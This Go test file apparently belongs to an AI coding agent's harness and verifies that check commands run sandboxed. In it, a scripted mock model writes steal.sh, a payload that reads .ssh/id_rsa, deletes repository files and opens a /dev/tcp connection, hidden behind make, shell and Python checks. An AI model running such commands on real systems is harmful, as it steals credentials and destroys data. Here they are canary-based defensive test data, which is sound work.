package main

import (
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// A check runs what the model has written, so it runs in the sandbox: without the home
// directory and the network, and it can only change what undo restores.
func TestChecksRunInTheSandbox(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ check, file, script string }{
		"make":   {"make -f lint.mk lint", "lint.mk", "lint:\n\t@sh ./steal.sh\n"},
		"script": {"sh scripts/c.sh", "scripts/c.sh", ". ./steal.sh\n"},
		"python": {"python3 -m tool", "tool.py", "import subprocess\nsubprocess.run(['sh', './steal.sh'], check=True)\n"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h := repository(t)
			l, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { l.Close() })
			_, port, _ := net.SplitHostPort(l.Addr().String())
			if err := os.MkdirAll(filepath.Join(h.dir, ".ssh"), 0o700); err != nil {
				t.Fatal(err)
			}
			for file, text := range map[string]string{".ssh/id_rsa": "CANARY-KEY", "notes": "CANARY-NOTES"} {
				if err := os.WriteFile(filepath.Join(h.dir, file), []byte(text), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			h.configure(t, `{"checks":[{"files":"a.js","command":`+quote(c.check)+`}]}`)
			big := filepath.Join(h.work, "big.bin")
			h.put(t, "big.bin", "")
			if err := os.Link(big, filepath.Join(filepath.Dir(h.work), "big.bin")); err != nil { // undo cannot restore it
				t.Fatal(err)
			}
			h.put(t, "small", "mine\n")
			steal := "cat ../../.ssh/id_rsa ../../notes; echo x >../../STOLEN; rm -f big.bin; rm -f .git/HEAD; echo evil >small; echo x >.envrc; mkdir -p build; echo out >build/out\n" +
				"bash -c 'echo hi >/dev/tcp/127.0.0.1/" + port + "' && echo CONN\"\"ECTED\ntrue\n"
			s := serve(t,
				call("write", `{"path":"steal.sh","content":`+quote(steal)+`}`),
				call("write", `{"path":`+quote(c.file)+`,"content":`+quote(c.script)+`}`),
				call("write", `{"path":"a.js","content":"1\n"}`),
				call("diagnostics", `{}`),
				say("done"))
			out, err := h.command("run", "--model", "openai/m", "--base-url", s.URL+"/v1", "--mode", "auto", "go").CombinedOutput()
			results := s.seen()
			if err != nil || len(results) != 5 {
				t.Fatalf("%v, %d requests\n%s", err, len(results), out)
			}
			last := results[4].body
			for _, stolen := range []string{"CANARY", "CONNECTED"} {
				if strings.Contains(last, stolen) {
					t.Errorf("the check got %s", stolen)
				}
			}
			for _, want := range []string{"[check `" + c.check + "`: ok]\\n[the command could not change ", "[the command could not change .envrc, which is protected (direnv runs it"} {
				if !strings.Contains(last, want) {
					t.Errorf("%q is not in %s", want, last)
				}
			}
			for path, want := range map[string]bool{filepath.Join(h.dir, "STOLEN"): false, big: true, filepath.Join(h.work, ".git/HEAD"): true, filepath.Join(h.work, ".envrc"): false, filepath.Join(h.work, "build/out"): true} {
				if _, err := os.Stat(path); (err == nil) != want {
					t.Errorf("%s exists: %v, want %v", path, err == nil, want)
				}
			}
			if text, code := h.agent(t, "undo", "--yes"); code != 0 {
				t.Errorf("undo: exit code %d\n%s", code, text)
			}
			if got := readText(t, filepath.Join(h.work, "small")); got != "mine\n" {
				t.Errorf("after undo: %q", got)
			}
		})
	}
}

// A check runs outside the sandbox only if its configuration says so.
func TestChecksOutsideTheSandbox(t *testing.T) {
	t.Parallel()
	h := repository(t)
	h.configure(t, `{"checks":[{"files":"*.js","command":"echo x >../../made","sandbox":false}]}`)
	s := serve(t, call("write", `{"path":"a.js","content":"1\n"}`), say("done"))
	if out, err := h.command("run", "--model", "openai/m", "--base-url", s.URL+"/v1", "--mode", "auto", "go").CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if got := readText(t, filepath.Join(h.dir, "made")); got != "x\n" {
		t.Errorf("got %q", got)
	}
}
